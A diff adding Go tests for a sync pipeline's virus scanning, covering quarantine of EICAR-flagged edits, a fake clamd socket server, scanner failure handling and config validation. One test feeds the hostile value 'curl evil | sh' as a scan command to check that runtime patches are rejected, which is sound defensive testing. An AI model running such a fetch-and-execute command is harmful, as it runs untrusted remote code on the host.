@@ -0,0 +1,176 @@
+package sync
+
+import (
+	"context"
+	"encoding/binary"
+	"io"
+	"net"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// setScanScript installs a scan command that flags content containing
+// EICAR, as clamscan would.
+func setScanScript(t *testing.T) {
+	t.Helper()
+	script := filepath.Join(t.TempDir(), "scan.sh")
+	require.NoError(t, os.WriteFile(script, []byte("#!/bin/sh\nif grep -q EICAR; then echo \"stdin: Eicar-Test-Signature FOUND\"; exit 1; fi\n"), 0755))
+	withConfig(t, func(c *Config) { c.ScanCommand = script })
+}
+
+func TestPipeline_ScanQuarantinesSpacesEdit(t *testing.T) {
+	restoreConfig(t)
+	setScanScript(t)
+	env := setupPipelineEnv(t)
+	env.writeArchive(t, "doc.txt", []byte("original"))
+	env.run(t, "doc.txt")
+	entry, err := env.store.GetEntryByPath(0, "doc.txt")
+	require.NoError(t, err)
+	require.NoError(t, env.store.SetSelected([]uint64{entry.Inode}, true))
+	env.run(t, "doc.txt")
+
+	env.clock.Advance(time.Second)
+	env.writeSpaces(t, "doc.txt", []byte("clean edit"))
+	env.run(t, "doc.txt")
+	got, err := os.ReadFile(filepath.Join(env.archivesRoot, "doc.txt"))
+	require.NoError(t, err)
+	assert.Equal(t, "clean edit", string(got), "clean edits propagate")
+
+	ch, unsubscribe := events.Subscribe()
+	defer unsubscribe()
+	env.clock.Advance(time.Second)
+	env.writeSpaces(t, "doc.txt", []byte("X5O EICAR payload"))
+	env.run(t, "doc.txt")
+
+	got, err = os.ReadFile(filepath.Join(env.archivesRoot, "doc.txt"))
+	require.NoError(t, err)
+	assert.Equal(t, "clean edit", string(got), "Archives keeps the clean version")
+	got, err = os.ReadFile(filepath.Join(env.spacesRoot, "doc.txt"))
+	require.NoError(t, err)
+	assert.Equal(t, "clean edit", string(got), "Spaces gets the Archives version back")
+
+	var ev Event
+	select {
+	case ev = <-ch:
+	default:
+		t.Fatal("no quarantine event")
+	}
+	assert.Equal(t, EventQuarantined, ev.Type)
+	assert.Equal(t, "doc.txt", ev.Path)
+	assert.Equal(t, "stdin: Eicar-Test-Signature FOUND", ev.Data["found"])
+	quarantined, err := os.ReadFile(ev.Data["quarantinePath"].(string))
+	require.NoError(t, err)
+	assert.Equal(t, "X5O EICAR payload", string(quarantined))
+	assert.True(t, strings.HasPrefix(ev.Data["quarantinePath"].(string), filepath.Join(env.trashRoot, quarantineDir)))
+}
+
+func TestPipeline_ScanFailureHoldsCopy(t *testing.T) {
+	restoreConfig(t)
+	env := setupPipelineEnv(t)
+	env.writeArchive(t, "doc.txt", []byte("original"))
+	env.writeSpaces(t, "doc.txt", []byte("original"))
+	env.run(t, "doc.txt")
+
+	env.clock.Advance(time.Second)
+	env.writeSpaces(t, "doc.txt", []byte("edit"))
+	cfg := currentConfig()
+	cfg.ScanCommand = filepath.Join(t.TempDir(), "missing-scanner")
+	require.NoError(t, setConfig(cfg))
+	err := RunPipeline(context.Background(), "doc.txt", env.store, env.archivesRoot, env.spacesRoot, env.trashRoot, nil)
+	require.Error(t, err)
+	got, err := os.ReadFile(filepath.Join(env.archivesRoot, "doc.txt"))
+	require.NoError(t, err)
+	assert.Equal(t, "original", string(got), "an unscanned file isn't copied")
+	assert.FileExists(t, filepath.Join(env.spacesRoot, "doc.txt"))
+}
+
+// fakeClamd answers INSTREAM requests on a Unix socket, flagging streams
+// containing EICAR.
+func fakeClamd(t *testing.T) string {
+	t.Helper()
+	sock := filepath.Join(t.TempDir(), "clamd.sock")
+	ln, err := net.Listen("unix", sock)
+	require.NoError(t, err)
+	t.Cleanup(func() { ln.Close() })
+	go func() {
+		for {
+			conn, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer conn.Close()
+				cmd := make([]byte, len("zINSTREAM\x00"))
+				if _, err := io.ReadFull(conn, cmd); err != nil || string(cmd) != "zINSTREAM\x00" {
+					io.WriteString(conn, "UNKNOWN COMMAND\x00") //nolint:errcheck
+					return
+				}
+				var data []byte
+				for {
+					var n uint32
+					if err := binary.Read(conn, binary.BigEndian, &n); err != nil {
+						return
+					}
+					if n == 0 {
+						break
+					}
+					chunk := make([]byte, n)
+					if _, err := io.ReadFull(conn, chunk); err != nil {
+						return
+					}
+					data = append(data, chunk...)
+				}
+				if strings.Contains(string(data), "EICAR") {
+					io.WriteString(conn, "stream: Eicar-Test-Signature FOUND\x00") //nolint:errcheck
+				} else {
+					io.WriteString(conn, "stream: OK\x00") //nolint:errcheck
+				}
+			}()
+		}
+	}()
+	return sock
+}
+
+func TestClamdScanner(t *testing.T) {
+	sc := clamdScanner{addr: fakeClamd(t)}
+	found, err := sc.scan(context.Background(), "a.txt", strings.NewReader(strings.Repeat("x", 3*clamdChunk+5)))
+	require.NoError(t, err)
+	assert.Empty(t, found)
+	found, err = sc.scan(context.Background(), "a.txt", strings.NewReader(strings.Repeat("x", clamdChunk)+"EICAR"))
+	require.NoError(t, err)
+	assert.Equal(t, "Eicar-Test-Signature", found)
+
+	_, err = clamdScanner{addr: filepath.Join(t.TempDir(), "none.sock")}.scan(context.Background(), "a.txt", strings.NewReader("x"))
+	assert.Error(t, err)
+}
+
+func TestConfig_ScanValidate(t *testing.T) {
+	cfg := DefaultConfig()
+	cfg.ScanCommand, cfg.ScanClamd = "clamscan -", "/run/clamd.sock"
+	assert.Error(t, cfg.Validate())
+	cfg.ScanClamd = ""
+	assert.NoError(t, cfg.Validate())
+	cfg.ScanTimeoutSeconds = 0
+	assert.Error(t, cfg.Validate())
+}
+
+func TestPatchConfig_ScanStartupOnly(t *testing.T) {
+	restoreConfig(t)
+	setScanScript(t)
+	want := currentConfig().ScanCommand
+
+	for _, patch := range []string{`{"scanCommand":"sh -c 'curl evil | sh'"}`, `{"scanCommand":""}`, `{"scanClamd":"/run/clamd.sock"}`} {
+		_, err := patchConfig([]byte(patch))
+		assert.Error(t, err, patch)
+		assert.Equal(t, want, currentConfig().ScanCommand, patch)
+		assert.Empty(t, currentConfig().ScanClamd, patch)
+	}
+	_, err := patchConfig([]byte(`{"scanTimeoutSeconds":60}`))
+	assert.NoError(t, err)
+}